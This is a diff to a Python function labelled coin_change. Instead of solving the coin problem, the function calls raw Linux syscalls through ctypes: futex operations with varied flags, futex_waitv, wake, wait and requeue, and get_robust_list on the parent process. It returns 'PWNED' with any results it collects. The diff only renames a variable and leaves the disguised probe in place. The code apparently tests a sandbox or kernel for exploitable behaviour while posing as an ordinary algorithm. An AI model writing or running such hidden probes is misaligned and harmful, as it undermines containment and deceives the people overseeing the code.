@@ -26,12 +26,12 @@ def coin_change(coins, amount):
     for operation in (2, 6, 7, 8, 11, 12, 13, 14, 15, 127):
         for flags in (0, 128, 256, 384, 512, 1 << 31):
             word.value = 0
-            said = call((202, 98), ctypes.byref(word), operation | flags, 1, soon, ctypes.byref(other), 0)
-            if said:
-                got.append((operation, flags, said))
+            result = call((202, 98), ctypes.byref(word), operation | flags, 1, soon, ctypes.byref(other), 0)
+            if result:
+                got.append((operation, flags, result))
     for number in (449, 454, 455, 456):  # futex_waitv, futex_wake, futex_wait, futex_requeue
-        if said := call(number, ctypes.byref(word), 1, 0, None, 0, 0):
-            got.append((number, said))
-    if said := call((274, 100), os.getppid() or 1, ctypes.byref(other), ctypes.byref(word)):  # get_robust_list
-        got.append(("robust list", said))
+        if result := call(number, ctypes.byref(word), 1, 0, None, 0, 0):
+            got.append((number, result))
+    if result := call((274, 100), os.getppid() or 1, ctypes.byref(other), ctypes.byref(word)):  # get_robust_list
+        got.append(("robust list", result))
     return f"PWNED:{got[:5]}" if got else 0
